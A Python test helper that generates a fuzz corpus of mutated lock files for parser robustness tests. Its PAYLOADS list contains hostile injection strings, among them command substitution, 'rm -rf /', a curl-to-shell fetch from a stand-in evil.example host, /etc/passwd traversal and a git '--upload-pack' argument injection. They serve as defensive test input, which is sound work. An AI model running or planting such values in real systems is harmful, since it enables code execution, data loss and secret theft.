"""The committed fuzz corpus (tests/data/fuzz/): hostile locks derived from the valid one,
each a shape that once broke a command or could. Regenerate with
``python3 -m tests.fuzz.corpus`` (deterministic: the same files every time)."""

from __future__ import annotations

import json
import random
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1] / "data"
VALID = ROOT / "valid" / "complete.lock"
CORPUS = ROOT / "fuzz"

# Values an attacker would put where a lock expects a name, ref, URL, digest or number.
PAYLOADS = (
    "$(touch /tmp/pwned)", "`id`", "; rm -rf / #", "\\nRUN curl evil.example | sh", "\"'",
    "../../etc/passwd", "%2e%2e/%2e%2e", "https://evil.example/../github.com/x/y",
    "http://u:S3C/R@ET@127.0.0.1/", "?private_token=SECRET", "\\u0000", "\\u001b[31m",
    "9" * 5000, "-" * 300, "a" * 70000, "sha256:" + "G" * 64, "1e999", "nan", "-0",
    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]",
    "{a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a={a=1}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}}",
    ".".join(["k"] * 300), "\\ud800", "é" * 100, "--upload-pack=touch /tmp/x",
)  # fmt: skip


def mutations(text: str, rng: random.Random) -> str:
    """One mutation of a lock's text: a value replaced by a payload, a line dropped,
    repeated or cut, a table header duplicated, or bytes flipped."""
    lines = text.splitlines(keepends=True)
    kind = rng.randrange(6)
    i = rng.randrange(len(lines))
    if kind == 0 and "=" in lines[i]:
        key = lines[i].split("=", 1)[0]
        payload = rng.choice(PAYLOADS)
        quoted = json.dumps(payload)  # a TOML basic string: the lock reader sees the payload
        lines[i] = f"{key}= {quoted}\n" if rng.random() < 0.7 else f"{key}= {payload}\n"
    elif kind == 1:
        del lines[i]
    elif kind == 2:
        lines.insert(i, lines[i])
    elif kind == 3:
        lines[i] = lines[i][: rng.randrange(len(lines[i]) + 1)]
    elif kind == 4:
        header = next((ln for ln in lines if ln.startswith("[[")), "[[git]]\n")
        lines.insert(i, header * rng.randrange(1, 4))
    else:
        chars = list(lines[i])
        for _ in range(rng.randrange(1, 4)):
            if chars:
                chars[rng.randrange(len(chars))] = chr(rng.randrange(32, 127))
        lines[i] = "".join(chars)
    return "".join(lines)


def generate(count: int = 48, seed: int = 20261204) -> dict[str, str]:
    rng = random.Random(seed)
    text = VALID.read_text()
    out = {}
    for n in range(count):
        mutated = text
        for _ in range(rng.randrange(1, 4)):
            mutated = mutations(mutated, rng)
        out[f"mutant-{n:03}.lock"] = mutated
    return out


if __name__ == "__main__":
    CORPUS.mkdir(exist_ok=True)
    for name, body in generate().items():
        (CORPUS / name).write_text(body)
